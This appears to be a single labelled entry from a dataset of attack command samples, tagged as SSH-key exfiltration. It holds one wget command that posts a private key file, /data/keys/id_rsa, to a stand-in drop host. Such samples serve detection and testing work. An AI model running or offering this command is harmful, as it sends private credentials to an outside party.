# class: exfiltration; possible: low medium; needs: data; style: ssh key by wget
wget -q -O /dev/stdout --post-file=/data/keys/id_rsa http://drop.test/k
